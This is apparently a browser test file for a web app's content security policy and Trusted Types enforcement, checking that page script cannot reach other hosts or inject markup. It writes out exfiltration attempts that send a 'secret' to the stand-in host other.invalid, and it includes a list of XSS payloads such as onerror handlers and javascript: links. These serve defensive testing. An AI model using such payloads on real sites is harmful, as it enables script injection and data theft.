// What stands between a record and the network, attacked from inside the page.
import { expect, test } from './support/app';

test.describe('hostile script in the page', () => {
  test.use({ sendHeaders: true });

  test('cannot send anything to another host', async ({ app }) => {
    app.provokesViolations = true;
    await app.open();
    const outcomes = await app.page.evaluate(async () => {
      const other = 'https://other.invalid/?secret';
      const blocked = async (attempt: () => Promise<unknown>) => attempt().then(() => false, () => true);
      return {
        fetch: await blocked(() => fetch(other)),
        beacon: await blocked(async () => navigator.sendBeacon(other, 'secret') || Promise.reject(new Error())),
        socket: await blocked(() => new Promise((open, failed) => {
          const socket = new WebSocket('wss://other.invalid/');
          socket.onopen = open;
          socket.onerror = failed;
        })),
        image: await blocked(() => new Promise((open, failed) => {
          const image = new Image();
          image.onload = open;
          image.onerror = failed;
          image.src = other;
        })),
        window: window.open(other) === null,
      };
    });
    expect(outcomes).toMatchObject({ fetch: true, socket: true, image: true, window: true });
    expect(await app.page.evaluate(() => window.__fieldfareViolations)).toBeGreaterThanOrEqual(3);
    await app.expectFault(/./);
  });

  test('cannot leave the app for another host', async ({ app }) => {
    await app.open();
    await app.page.evaluate(() => {
      location.href = 'https://other.invalid/?secret';
    });
    await app.page.evaluate(() => {
      location.hash = '#/cases';
    });
    await expect(app.page).toHaveURL(`${app.host.url}#/cases`);
  });

  test('cannot run text as code or load another script', async ({ app }) => {
    app.provokesViolations = true;
    await app.open();
    const refused = await app.page.evaluate(async () => {
      const throws = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      return {
        script: throws(() => (document.createElement('script').src = 'https://other.invalid/a.js')),
        own: throws(() => (document.createElement('script').src = 'icons/icon.svg')),
        text: throws(() => (document.createElement('script').text = '1')),
        worker: throws(() => new Worker('boot.js')),
        timer: throws(() => setTimeout('1')),
        policy: throws(() => window.trustedTypes.createPolicy('default', {})),
        // The debugger that runs this may eval; what it leaves behind may not.
        eval: await new Promise((done) => setTimeout(() => done(throws(() => window.eval('1'))), 0)),
        sealed: !throws(() => (document.createElement('script').src = 'crypto-worker_loader.js')),
      };
    });
    expect(refused).toEqual({
      script: true, own: true, text: true, worker: true, timer: true, policy: true, eval: true, sealed: true,
    });
    await app.expectFault(/./);
  });
});

const PLAIN = [
  '',
  'text & more',
  '<p class="a b">text</p>',
  '<section aria-labelledby="t" data-kind="x"><h2 id="t">A &lt; B</h2><br><input type="text" disabled></section>',
  '<svg viewBox="0 0 8 8" xmlns="http://www.w3.org/2000/svg"><path d="M0 0h8" stroke-width="2"></path></svg>',
  '<a href="#/cases">All</a><!>',
];
const HOSTILE = [
  '<script>1</script>',
  '<img src=x onerror=alert(1)>',
  '<img alt="x" src="a.png">',
  '<p onclick="x()">text</p>',
  '<p class="a"onclick="x()">text</p>',
  '<p style="color:red">text</p>',
  '<iframe srcdoc="x"></iframe>',
  '<a href="javascript:x">text</a>',
  '<a href="https://other.invalid/">text</a>',
  '<form action="x"></form>',
  '<svg><use href="a.svg#x"></use></svg>',
  '<base href="/">',
  '<p <b>',
  '<!-- <p> --><x>',
];

test('static markup in the one shape the app uses is set; every other markup is refused', async ({ app }) => {
  app.provokesViolations = true;
  await app.open();
  const accepted = await app.page.evaluate(
    (samples) =>
      samples.filter((sample) => {
        try {
          document.createElement('template').innerHTML = sample;
          return true;
        } catch {
          return false;
        }
      }),
    [...PLAIN, ...HOSTILE],
  );
  expect(accepted).toEqual(PLAIN);
  await app.expectFault(/./);
});
